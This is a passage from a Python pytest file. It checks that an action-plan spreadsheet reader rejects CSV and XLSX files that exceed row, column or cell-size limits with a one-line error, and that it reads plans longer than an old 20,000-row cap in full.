def write_giant_field_csv(path: Path) -> None:
    path.write_text('Action,Owner\n"' + "x" * 200_000 + '",DASS\n', encoding="utf-8")


@pytest.mark.parametrize(
    ("name", "write", "limit"),
    [
        ("long.csv", write_too_many_rows, f"fills {MAX_ROWS + 1:,} rows, over the {MAX_ROWS:,}-row limit"),
        ("wide.xlsx", write_too_many_columns, f"fills column CW (101), over the {MAX_COLUMNS}-column limit"),
        ("huge.xlsx", write_huge_cell_xlsx, f"cell A2 holds 32,768 characters, over the {MAX_CELL_CHARS:,}"),
        ("huge.csv", write_huge_cell_csv, "cell A2 holds 32,768 characters, over the 32,767-character limit"),
        ("giant.csv", write_giant_field_csv, "record 2 holds a field over the 32,767-character limit"),
    ],
)
def test_a_plan_over_a_limit_is_refused_whole_in_one_line(
    tmp_path: Path, name: str, write: Callable[[Path], None], limit: str
) -> None:
    path = tmp_path / name
    write(path)

    with pytest.raises(PlanLimitError) as raised:
        read_action_plan(path, MAX_BYTES)

    message = str(raised.value)
    assert message.startswith(f"{name}: ") and limit in message and "\n" not in message


def test_a_plan_past_the_old_20000_row_cut_is_read_whole(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_text("Action,Owner\n" + "".join(f"Action {n},DASS\n" for n in range(20_005)), encoding="utf-8")

    plan = read_action_plan(path, MAX_BYTES)

    assert (len(plan.actions), plan.actions[-1].action_text, plan.skipped_rows) == (
        20_005,
        "Action 20004",
        [],
    )
